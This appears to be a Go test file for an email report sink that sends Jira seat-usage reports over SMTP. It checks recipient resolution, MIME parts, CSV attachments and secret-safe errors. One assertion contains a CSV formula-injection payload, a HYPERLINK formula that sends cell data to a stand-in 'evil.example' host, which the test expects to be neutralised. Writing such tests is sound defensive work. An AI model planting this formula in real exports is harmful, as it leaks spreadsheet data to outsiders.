package email_test

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/seatwarden/seatwarden/internal/smtptest"
	"github.com/seatwarden/seatwarden/jira"
	"github.com/seatwarden/seatwarden/jira/datacenter"
	"github.com/seatwarden/seatwarden/jira/jiratest"
	"github.com/seatwarden/seatwarden/report"
	"github.com/seatwarden/seatwarden/report/email"
	"github.com/seatwarden/seatwarden/report/insights"
	"github.com/seatwarden/seatwarden/report/internal/reporttest"
)

// startSMTP starts an SMTP server without TLS that accepts PLAIN auth
// for user in clear.
func startSMTP(t *testing.T, user, password string) *smtptest.Server {
	return smtptest.Start(t, smtptest.Options{User: user, Password: password})
}

// sinkVia returns an email sink sending through s without TLS, as user
// with password.
func sinkVia(s *smtptest.Server, password jira.Secret, groups email.GroupMembers, to ...string) *email.Sink {
	return &email.Sink{From: "seatwarden@example.com", To: to, Groups: groups,
		SMTP: email.SMTP{Host: s.Host, Port: s.Port, Username: "reports", Password: password, TLS: email.NoTLS, InsecureAuth: true, Timeout: 5 * time.Second}}
}

// part is one leaf of a MIME message.
type part struct {
	header map[string][]string
	body   []byte
}

// leaves walks a MIME entity into its leaf parts, decoded.
func leaves(t *testing.T, contentType string, header map[string][]string, body io.Reader) []part {
	t.Helper()
	mt, params, err := mime.ParseMediaType(contentType)
	require.NoError(t, err)
	if strings.HasPrefix(mt, "multipart/") {
		var out []part
		mr := multipart.NewReader(body, params["boundary"])
		for {
			p, err := mr.NextRawPart()
			if err == io.EOF {
				return out
			}
			require.NoError(t, err)
			out = append(out, leaves(t, p.Header.Get("Content-Type"), p.Header, p)...)
		}
	}
	b, err := io.ReadAll(body)
	require.NoError(t, err)
	switch strings.ToLower(first(header["Content-Transfer-Encoding"])) {
	case "base64":
		b, err = base64.StdEncoding.DecodeString(strings.NewReplacer("\r", "", "\n", "").Replace(string(b)))
		require.NoError(t, err)
	case "quoted-printable":
		b, err = io.ReadAll(newQP(b))
		require.NoError(t, err)
	}
	return []part{{header: header, body: b}}
}

func first(v []string) string {
	if len(v) == 0 {
		return ""
	}
	return v[0]
}

func TestEmailToGroupOverSMTP(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	// The group on the fake: two active members with emails, one inactive.
	fake := jiratest.NewServer(t)
	require.NoError(t, fake.AddGroup("it-managers"))
	for _, u := range []jiratest.UserSpec{
		{Name: "mia", DisplayName: "Mia", Email: "mia@example.com", Groups: []string{"it-managers"}},
		{Name: "noah", DisplayName: "Noah", Email: "Noah@example.com", Groups: []string{"it-managers"}},
		{Name: "olga", DisplayName: "Olga", Email: "olga@example.com", Groups: []string{"it-managers"}, Inactive: true},
	} {
		_, err := fake.AddUser(u)
		require.NoError(t, err)
	}
	client, err := datacenter.New(fake.URL, datacenter.BasicAuth(jiratest.DefaultDCUser, jira.Secret(jiratest.DefaultDCPassword)))
	require.NoError(t, err)

	srv := startSMTP(t, "reports", "s3cret-pw")
	sink := sinkVia(srv, "s3cret-pw", client, "it-managers", "cfo@example.com", "noah@example.com")
	r, err := reporttest.StoredReport(ctx, t.TempDir(), true)
	require.NoError(t, err)
	require.NoError(t, report.NewFanout(nil, sink).Write(ctx, r))

	got := srv.Messages()
	require.Len(t, got, 1)
	assert.Equal(t, "seatwarden@example.com", got[0].From)
	assert.ElementsMatch(t, []string{"cfo@example.com", "mia@example.com", "Noah@example.com"}, got[0].To,
		"the group's active members, the address, no duplicate")
	msg, err := mail.ReadMessage(bytes.NewReader(got[0].Data))
	require.NoError(t, err)
	subject, err := new(mime.WordDecoder).DecodeHeader(msg.Header.Get("Subject"))
	require.NoError(t, err)
	assert.Equal(t, "Seatwarden: Run of contractors, inactive-90-days: 2 applied, 1 stale, 1 failed", subject)

	parts := leaves(t, msg.Header.Get("Content-Type"), msg.Header, msg.Body)
	var text, html, csvBody []byte
	pngs := map[string][]byte{}
	for _, p := range parts {
		ct := first(p.header["Content-Type"])
		switch {
		case strings.HasPrefix(ct, "text/plain"):
			text = p.body
		case strings.HasPrefix(ct, "text/html"):
			html = p.body
		case strings.HasPrefix(ct, "text/csv"):
			assert.Contains(t, first(p.header["Content-Disposition"]), `attachment; filename="seatwarden-run-1.csv"`)
			csvBody = p.body
		case strings.HasPrefix(ct, "image/png"):
			pngs[strings.Trim(first(p.header["Content-Id"]), "<>")] = p.body
		}
	}
	assert.Contains(t, string(text), "Needs attention")
	require.NotNil(t, html)
	assert.Contains(t, string(html), "now 811 recently, 363 not for a while, 56 never logged in")
	assert.NotContains(t, string(html), "<svg", "mail clients get PNGs")
	for _, c := range r.Insights.(*insights.Insights).Charts {
		assert.Contains(t, string(html), `src="cid:`+c.ID+`.png"`)
		require.Contains(t, pngs, c.ID+".png")
		assert.Equal(t, c.PNG, pngs[c.ID+".png"])
		assert.True(t, bytes.HasPrefix(pngs[c.ID+".png"], []byte("\x89PNG\r\n\x1a\n")))
	}
	rows, err := csv.NewReader(bytes.NewReader(csvBody)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(r.Results)+1)
	assert.Equal(t, report.OutcomeColumns(), rows[0])
	assert.Equal(t, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", rows[3][7], "the attachment is spreadsheet-safe")
}

func TestEmailFailuresKeepTheSecret(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	r, _ := reporttest.Fixture()
	srv := startSMTP(t, "reports", "right-password")

	wrong := sinkVia(srv, "hunter2-wrong", nil, "cfo@example.com")
	err := wrong.Write(ctx, r)
	require.Error(t, err)
	assert.NotContains(t, err.Error(), "hunter2-wrong")

	noTLS := sinkVia(srv, "hunter2-wrong", nil, "cfo@example.com")
	noTLS.SMTP.InsecureAuth = false
	assert.ErrorContains(t, noTLS.Write(ctx, r), "refusing to send a password without TLS")

	group := sinkVia(srv, "right-password", nil, "it-managers")
	assert.ErrorContains(t, group.Write(ctx, r), `to group "it-managers" needs a GroupMembers`)

	fake := jiratest.NewServer(t)
	require.NoError(t, fake.AddGroup("empty"))
	client, err := datacenter.New(fake.URL, datacenter.BasicAuth(jiratest.DefaultDCUser, jira.Secret(jiratest.DefaultDCPassword)))
	require.NoError(t, err)
	assert.ErrorIs(t, sinkVia(srv, "right-password", client, "empty").Write(ctx, r), email.ErrNoRecipients)
}

func newQP(b []byte) io.Reader { return quotedprintable.NewReader(bytes.NewReader(b)) }
